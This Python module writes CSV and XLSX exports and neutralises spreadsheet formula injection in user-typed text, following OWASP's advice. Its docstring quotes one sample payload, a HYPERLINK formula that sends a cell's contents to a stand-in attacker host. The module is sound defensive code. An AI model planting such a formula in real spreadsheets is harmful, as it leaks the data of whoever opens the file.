"""Spreadsheet files out: the one CSV writer and the one XLSX writer every export uses.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and one
that begins with a tab or a carriage return may be read as one too. Free text in a ledger (a
donor's name, a reason, a note) is typed by people outside the organisation, so a value such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")`` would run on the computer of whoever opens
the export. These writers neutralise such text (OWASP's advice on CSV injection):

- in CSV, a text cell that begins with one of those characters (or their full-width forms
  ``＝ ＋ － ＠``, or any of them after leading spaces) gets a leading apostrophe, which
  spreadsheets show as text;
- in XLSX, every text cell is written as a string with the "quote prefix" style, never as a
  formula, and keeps its exact value.

Numbers (``int``, ``Decimal``, ``float``) stay numbers in both formats, so a negative quantity
is ``-3`` and sums still work; dates and times are written as ISO text (times in UTC). Modules
and plugins never write CSV or XLSX themselves: a test fails when one does.
"""

from __future__ import annotations

import datetime as dt
import uuid
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import IO, Any, TextIO

#: First characters that make a spreadsheet read a text cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
#: Spaces a spreadsheet may skip before it looks for a formula.
_LEADING_SPACES = " \u00a0\u3000"

Cell = str | int | float | Decimal | bool


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could run ``text`` as a formula (see the module's docstring)."""
    if text[:1] in FORMULA_STARTS:
        return True
    return text.lstrip(_LEADING_SPACES)[:1] in FORMULA_STARTS


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet could run it as a formula."""
    return "'" + text if is_formula_like(text) else text


def cell_value(value: Any) -> Cell:
    """The value a spreadsheet cell holds for ``value``, before formula neutralising.

    ``None`` is an empty cell; booleans and numbers stay as they are (a ``Decimal`` without
    trailing zeros); a date is ``YYYY-MM-DD``; a time is ``YYYY-MM-DD HH:MM:SS`` in UTC;
    anything else is its text.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, Decimal):
        return plain_decimal(value)
    if isinstance(value, dt.datetime):
        moment = value.astimezone(dt.UTC) if value.tzinfo else value
        return moment.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, uuid.UUID):
        return str(value)
    return str(value)


def csv_cell(value: Any) -> Cell:
    """``value`` as a CSV cell: numbers as numbers, text neutralised (``'=1+1``)."""
    cell = cell_value(value)
    if isinstance(cell, Decimal):
        return format(cell, "f")
    return neutralise(cell) if isinstance(cell, str) else cell


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` to ``out`` as CSV; returns how many rows were written.

    ``out`` is an open text stream (a file opened with ``newline=""``, or ``io.StringIO``);
    rows are written one at a time, so an export of any length keeps little in memory. Every
    cell goes through :func:`csv_cell`.
    """
    import csv  # the only place in the kit that writes CSV

    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([csv_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([csv_cell(v) for v in row])
        count += 1
    return count


def write_xlsx(
    out: IO[bytes] | str | Path, header: Sequence[str], rows: Iterable[Sequence[Any]]
) -> int:
    """Write ``header`` and ``rows`` to ``out`` as a one-sheet XLSX workbook; returns the row count.

    ``out`` is a binary stream or a path. Text cells are strings with the quote-prefix style
    (never formulas); numbers are numeric cells. The workbook is written in openpyxl's
    write-only mode, one row at a time.
    """
    from openpyxl import Workbook  # the only place in the kit that writes XLSX

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([_xlsx_cell(sheet, h) for h in header])
    count = 0
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
        count += 1
    book.save(out)
    return count


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell_data = cell_value(value)
    if not isinstance(cell_data, str):
        return cell_data
    # XML cannot hold most control characters; openpyxl refuses them, so they are left out.
    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", cell_data))
    cell.data_type = "s"  # openpyxl makes a text that begins with "=" a formula: undo that
    if is_formula_like(str(cell.value)):
        cell.quotePrefix = True  # stays text even when someone edits the cell
    return cell


def plain_decimal(value: Decimal) -> Decimal:
    """``value`` without trailing zeros or an exponent (``Decimal("1E+1")`` -> ``10``)."""
    if not value.is_finite():
        return value
    if value == 0:
        return Decimal(0)
    normal = value.normalize()
    return normal.quantize(Decimal(1)) if normal.as_tuple().exponent > 0 else normal  # type: ignore[operator]


__all__ = [
    "FORMULA_STARTS",
    "cell_value",
    "csv_cell",
    "is_formula_like",
    "neutralise",
    "plain_decimal",
    "write_csv",
    "write_xlsx",
]
